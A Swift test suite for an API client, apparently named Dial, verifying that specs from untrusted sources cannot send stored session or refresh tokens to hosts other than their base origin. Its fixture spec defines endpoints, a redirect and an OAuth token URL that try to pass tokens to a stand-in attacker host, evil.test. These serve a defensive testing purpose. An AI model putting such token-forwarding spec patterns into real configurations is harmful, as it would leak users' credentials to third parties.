import Dial
import Foundation
import Synchronization
import Testing

/// An untrusted spec can use stored tokens only at the origin of its base.
struct GuardedTokenTests {
  private static let key = TokenKey(label: "session", origin: "https://api.test")

  /// Runs a call with a stored token; returns the requests, one per line.
  private static func sent(
    _ yaml: String, _ endpoint: String, trust: Spec.Trust = .untrusted, store: (any TokenStore)? = nil, answer: String = "{}",
    refused: Bool = false
  ) async throws -> [String] {
    let folder = NSTemporaryDirectory() + "dial-guarded-\(UUID().uuidString)"
    defer { try? FileManager.default.removeItem(atPath: folder) }
    let store: any TokenStore = store ?? FileTokenStore("\(folder)/tokens.json")
    try await store.set(Token("sekret-access", refresh: "sekret-refresh"), for: key)
    let transport = Answering { request in
      if request.url == "https://api.test/away" {
        return Response(status: .found, headers: [.location: "https://evil.test/x"], url: request.url, body: .init([]))
      }
      let status = refused && request.headers[.authorization] == "Bearer sekret-access" ? 401 : 200
      return Response(
        status: .init(code: status), headers: [.contentType: "application/json"], url: request.url, body: .init(Array(answer.utf8)))
    }
    let client = Client(try Spec.load(yaml: yaml, name: "evil.yaml", trust: trust), transport: transport, tokens: store)
    var lines: [String] = []
    do throws(CallError) { try await client.call(endpoint) } catch { lines.append("! \(error.code): \(error.message)") }
    return transport.sent.map { request in
      let body = if case .bytes(let bytes) = request.body { String(decoding: bytes, as: UTF8.self) } else { "" }
      return "\(request.method) \(request.url) \(request.headers[.authorization] ?? "-") \(body)"
    } + lines
  }

  private static func spec(_ auth: String = "{bearer: session}", _ more: String = "") -> String {
    """
    base: https://api.test
    auth: \(auth)
    redirects: {trust: [evil.test]}
    endpoints:
      own: GET /own
      away: GET /away
      steal: GET https://evil.test/x
      give: {POST: "https://evil.test/x (t)", auth: none}
    \(more)
    """
  }

  @Test func noOtherHostGetsTheToken() async throws {
    #expect(try await Self.sent(Self.spec(), "steal") == ["GET https://evil.test/x - "])
    #expect(try await Self.sent(Self.spec(), "away") == ["GET https://api.test/away Bearer sekret-access ", "GET https://evil.test/x - "])
  }

  @Test(arguments: ["refresh: {call: give, args: {t: \"{refresh_token}\"}}", "login: {call: give, args: {t: a}}"])
  func noOtherHostRenewsIt(more: String) async throws {
    let sent = try await Self.sent(Self.spec("{bearer: session, \(more)}"), "own", answer: #"{"access_token":"evil"}"#, refused: true)
    #expect(sent.first == "GET https://api.test/own Bearer sekret-access " && sent.count == 2)
    let verb = more.hasPrefix("refresh") ? "renewed" : "fetched"
    #expect(
      sent.last
        == "! credentials: the token 'session' could not be \(verb): 'give' at 'https://evil.test' cannot use the stored tokens of 'https://api.test', because the spec is not trusted"
    )
  }

  /// A token of another server cannot be renewed here.
  @Test(arguments: [Spec.Trust.untrusted, .folder, .full]) func anotherTokenServerRenewsNothing(trust: Spec.Trust) async throws {
    let auth = "{bearer: session, oauth2: {grant: client_credentials, token_url: https://evil.test/token, client_id: a, client_secret: b}}"
    let sent = try await Self.sent(Self.spec(auth), "own", trust: trust, answer: #"{"access_token":"evil"}"#, refused: true)
    #expect(sent.count == 2 && sent.last == "GET https://api.test/own Bearer evil ")
    #expect(!"\(sent)".contains("sekret-"))
  }

  @Test func itsOwnServiceGetsIt() async throws {
    #expect(try await Self.sent(Self.spec(), "own") == ["GET https://api.test/own Bearer sekret-access "])
    let refresh = "{bearer: session, refresh: {call: renew, args: {t: \"{refresh_token}\"}}}"
    let sent = try await Self.sent(
      Self.spec(refresh, "  renew: POST /renew (t)"), "own", answer: #"{"access_token":"fresh"}"#, refused: true)
    #expect(
      sent == [
        "GET https://api.test/own Bearer sekret-access ", #"POST https://api.test/renew - {"t":"sekret-refresh"}"#,
        "GET https://api.test/own Bearer fresh ",
      ])
  }

  @Test func aSpecOfTheUserMayTrustHosts() async throws {
    for trust in [Spec.Trust.folder, .full] {
      #expect(try await Self.sent(Self.spec(), "steal", trust: trust) == ["GET https://evil.test/x Bearer sekret-access "])
    }
    // The program set the token in memory for this spec.
    #expect(try await Self.sent(Self.spec(), "steal", store: MemoryTokenStore()) == ["GET https://evil.test/x Bearer sekret-access "])
  }
}
